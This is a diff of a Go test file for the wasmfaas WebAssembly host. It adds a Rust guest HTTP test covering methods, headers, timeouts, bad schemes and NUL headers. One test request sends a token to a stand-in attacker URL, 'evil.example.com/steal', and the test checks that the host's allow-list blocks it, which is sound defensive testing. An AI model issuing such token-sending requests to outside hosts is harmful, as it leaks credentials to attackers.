@@ -1,13 +1,17 @@
 package hosttest_test
 
 import (
+	"context"
 	"encoding/json"
 	"fmt"
+	"io"
 	"math"
 	"math/rand/v2"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strconv"
+	"sync"
 	"testing"
 	"time"
 
@@ -18,6 +22,7 @@ import (
 
 	"github.com/wasmfaas/wasmfaas/abi"
 	"github.com/wasmfaas/wasmfaas/host"
+	"github.com/wasmfaas/wasmfaas/host/egress"
 	"github.com/wasmfaas/wasmfaas/host/hosttest"
 	"github.com/wasmfaas/wasmfaas/store/storetest"
 )
@@ -34,8 +39,9 @@ func buildRust(t testing.TB, path string) []byte {
 
 // TestRustExampleImports checks that the linker keeps only the host
 // functions a Rust example uses, so that each needs no capability beyond its
-// suite.json, and that the SDK's handler! makes an ABI v1 reactor
-// (_initialize, no _start) while wasi-upper stays a WASI command.
+// suite.json (fetch, which has none: beyond the Go version's), and that the
+// SDK's handler! makes an ABI v1 reactor (_initialize, no _start) while
+// wasi-upper stays a WASI command.
 func TestRustExampleImports(t *testing.T) {
 	h := newHost(t)
 	for _, tc := range []struct {
@@ -47,6 +53,7 @@ func TestRustExampleImports(t *testing.T) {
 		{"counter", abi.ModeReactor, []abi.Capability{abi.CapProps}},
 		{"temperature", abi.ModeReactor, []abi.Capability{abi.CapEmit, abi.CapProps}},
 		{"reminder", abi.ModeReactor, []abi.Capability{abi.CapConfig, abi.CapProps, abi.CapSchedule}},
+		{"fetch", abi.ModeReactor, []abi.Capability{abi.CapHTTP}},
 		{"wasi-upper", abi.ModeCommand, nil},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
@@ -278,4 +285,119 @@ func TestRustJSONHelpers(t *testing.T) {
 	} {
 		assert.Equal(t, want, call("decode", []byte(in)), "decode_json(%s)", in)
 	}
+}
+
+// rustHTTPOutcome is one request's report from the Rust httpcheck guest.
+type rustHTTPOutcome struct {
+	Status  int         `json:"status"`
+	Headers [][2]string `json:"headers"`
+	Body    string      `json:"body"`
+	Lookup  *string     `json:"lookup"`
+	Error   string      `json:"error"`
+	Code    int         `json:"code"` // a Status's code; 0 for a response
+}
+
+// TestRustHTTP drives the SDK's Http through a Rust guest: request, get
+// and post reach the server with their method, headers and body; any status
+// is a Response whose headers are sorted, lower-case pairs and whose
+// header(name) joins repeated values; a request that got no response is an
+// Error carrying the host's reason and the Status (DENIED, TIMEOUT,
+// INVALID); a NUL in a header is refused by the SDK before the host.
+func TestRustHTTP(t *testing.T) {
+	var mu sync.Mutex
+	var seen []string
+	srv := newServer(t, func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		mu.Lock()
+		seen = append(seen, fmt.Sprintf("%s %s ct=%q x-test=%q body=%q", r.Method, r.URL.Path, r.Header.Get("Content-Type"), r.Header.Values("X-Test"), b))
+		mu.Unlock()
+		switch r.URL.Path {
+		case "/hang":
+			<-r.Context().Done()
+			return
+		case "/missing":
+			http.NotFound(w, r)
+			return
+		}
+		w.Header().Set("Content-Type", "text/plain")
+		w.Header().Add("X-Reply", "a")
+		w.Header().Add("X-Reply", "b")
+		w.WriteHeader(http.StatusCreated)
+		_, _ = io.WriteString(w, "hello "+string(b))
+	})
+	h := newHTTPHost(t, egress.Config{})
+	fn, err := h.Deploy(t.Context(), "rusthttp", buildRust(t, "host/hosttest/testdata/rustguests/httpcheck"),
+		hosttest.Grant(abi.CapHTTP), hosttest.AllowHosts(srv.hostPort()),
+		hosttest.WithLimits(host.Limits{HTTPTimeout: 300 * time.Millisecond, Timeout: 10 * time.Second}))
+	require.NoError(t, err)
+	t.Cleanup(func() { _ = fn.Close(context.Background()) })
+
+	type request struct {
+		Call        string      `json:"call,omitempty"`
+		Method      string      `json:"method,omitempty"`
+		URL         string      `json:"url"`
+		Headers     [][2]string `json:"headers,omitempty"`
+		Body        string      `json:"body,omitempty"`
+		ContentType string      `json:"content_type,omitempty"`
+		Lookup      string      `json:"lookup,omitempty"`
+	}
+	reqs := []request{
+		{Method: "PUT", URL: srv.URL + "/put", Headers: [][2]string{{"X-Test", "1"}, {"X-Test", "2"}}, Body: "world", Lookup: "X-REPLY"},
+		{Call: "get", URL: srv.URL + "/get", Lookup: "x-absent"},
+		{Call: "post", URL: srv.URL + "/post", ContentType: "application/json", Body: `{"a":1}`, Lookup: "content-type"},
+		{Call: "get", URL: srv.URL + "/missing"},
+		{Call: "get", URL: "https://evil.example.com/steal?token=x"},
+		{Call: "get", URL: srv.URL + "/hang"},
+		{Call: "get", URL: "ftp://" + srv.hostPort() + "/"},
+		{URL: srv.URL + "/nul", Headers: [][2]string{{"X-Nul", "a\x00b"}}},
+	}
+	info := h.Send(t.Context(), fn, hosttest.NewEvent("com.example.http", "", reqs))
+	require.Equal(t, host.StatusOK, info.Status, "%+v", info.Error)
+	var out []rustHTTPOutcome
+	require.NoError(t, json.Unmarshal(info.Result.Body, &out), string(info.Result.Body))
+	require.Len(t, out, len(reqs))
+	str := func(s string) *string { return &s }
+
+	assert.Equal(t, rustHTTPOutcome{Status: 201, Body: "hello world", Lookup: str("a, b"), Headers: [][2]string{
+		{"content-length", "11"}, {"content-type", "text/plain"}, {"date", headerValue(out[0].Headers, "date")},
+		{"x-reply", "a"}, {"x-reply", "b"},
+	}}, out[0])
+	assert.Equal(t, 201, out[1].Status, "%+v", out[1])
+	assert.Nil(t, out[1].Lookup, "an absent header is None")
+	assert.Equal(t, 201, out[2].Status, "%+v", out[2])
+	assert.Equal(t, str("text/plain"), out[2].Lookup)
+	assert.Equal(t, `hello {"a":1}`, out[2].Body)
+	assert.Equal(t, 404, out[3].Status, "a 404 is a response: %+v", out[3])
+	assert.Zero(t, out[3].Code)
+
+	assert.Equal(t, "http request: host evil.example.com (port 443) is not on the function's allow-list", out[4].Error)
+	assert.Equal(t, int(abi.Denied), out[4].Code)
+	assert.Contains(t, out[5].Error, fmt.Sprintf("http request: host 127.0.0.1 (port %s) did not answer within the function's http_timeout of 300ms", srv.port))
+	assert.Equal(t, int(abi.Timeout), out[5].Code)
+	assert.Contains(t, out[6].Error, `scheme "ftp" is not http or https`)
+	assert.Equal(t, int(abi.Invalid), out[6].Code)
+	assert.Equal(t, `http request: header "X-Nul" contains NUL`, out[7].Error)
+	assert.Equal(t, int(abi.Invalid), out[7].Code)
+
+	require.Len(t, info.HTTPRequests, len(reqs)-1, "the SDK refused the NUL header without asking the host")
+	mu.Lock()
+	defer mu.Unlock()
+	assert.Equal(t, []string{
+		`PUT /put ct="" x-test=["1" "2"] body="world"`,
+		`GET /get ct="" x-test=[] body=""`,
+		`POST /post ct="application/json" x-test=[] body="{\"a\":1}"`,
+		`GET /missing ct="" x-test=[] body=""`,
+		`GET /hang ct="" x-test=[] body=""`,
+	}, seen)
+}
+
+// headerValue returns the first value of name in a list of pairs, for a
+// header whose value the test cannot know (date).
+func headerValue(hs [][2]string, name string) string {
+	for _, h := range hs {
+		if h[0] == name {
+			return h[1]
+		}
+	}
+	return ""
 }
